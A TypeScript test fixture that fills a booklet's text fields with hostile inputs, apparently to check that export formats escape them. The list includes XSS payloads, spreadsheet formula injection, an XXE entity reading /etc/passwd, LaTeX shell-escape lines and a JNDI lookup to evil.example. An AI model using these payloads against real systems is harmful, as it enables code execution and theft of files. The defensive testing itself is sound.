import type { BookletSources } from '../../domain/booklet/sources.ts';

/** Texts that some format could read as more than text (threats T10, T30), and texts that are merely hard to set. */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '#eval("1+1") #{1+1} $1+1$ #read("/data.json")',
  '#let x = 7; *bold* _it_ `raw` @ref <label> // not a comment /* nor this */',
  '= Heading\n- item\n+ item\n/ Term: x',
  '[a](javascript:alert(1)) ![b](http://127.0.0.1/x.png) <http://evil.example>',
  '| a | b |\n| --- | --- |\n***\n# Heading\n> quote\n1. one',
  "=cmd|'/C calc'!A0", // a formula, were this a sheet
  '+1+1',
  '@SUM(1)',
  '&lt;b&gt; &amp; &#x27; ]]> <![CDATA[ <?xml ?> <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '{ MERGEFIELD x } \\o "1-3" \\h HYPERLINK "http://evil.example"',
  `\\input{/etc/passwd} \\write18{id} \${jndi:ldap://evil.example/a}`,
  'שלום, مرحبا, Ελληνικά, Кириллица, 日本語, 👩‍🌾',
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(3),
  'x'.repeat(280),
  '\u0001\u0008\u000b\ufffe\ud800',
];

/** A booklet in which every text is one of these, on as many cards as a board bears. */
export function hostileSources(sample: BookletSources): BookletSources {
  let next = 0;
  const hostile = () => HOSTILE[next++ % HOSTILE.length] ?? '';
  const cards = Array.from({ length: 200 }, (_, index) => ({
    ...{ id: `card-${index}`, text: hostile(), votes: index % 3 },
    tags: index % 2 ? [hostile().slice(0, 30), hostile().slice(0, 30)] : [],
  }));
  const groups = [{ id: 'g', title: hostile(), tone: 'idea', cards }];
  const runs = HOSTILE.map((text) => ({ text, bold: true as const, href: 'https://example.org/?a=")]}#x' }));
  const notes = [{ part: 'p0' as never, as: 'paragraph' as const, runs }];
  return {
    ...sample,
    title: hostile(),
    phases: sample.phases.map((phase) => ({ ...phase, title: hostile() })),
    named: HOSTILE.map((name) => ({ name, role: 'participant' as const })),
    rounds: sample.rounds.slice(0, 1).map((round) => ({
      ...{ ...round, topic: hostile(), question: hostile() },
      tables: round.tables.map((table) => ({ ...table, topic: hostile(), groups, notes })),
    })),
    reflection: groups,
    questions: HOSTILE.map((text, index) => ({ id: `q${index}`, text, votes: 1, answered: false })),
    polls: [{ id: 'poll', title: hostile(), answers: 3, bars: HOSTILE.map((label) => ({ label, count: 3 })) }],
    openPoints: HOSTILE.map((text, index) => ({ id: `o${index}`, text, owner: text, done: false })),
    references: HOSTILE.map((title, index) => ({ id: `r${index}`, title, kind: 'other', href: title })),
  };
}
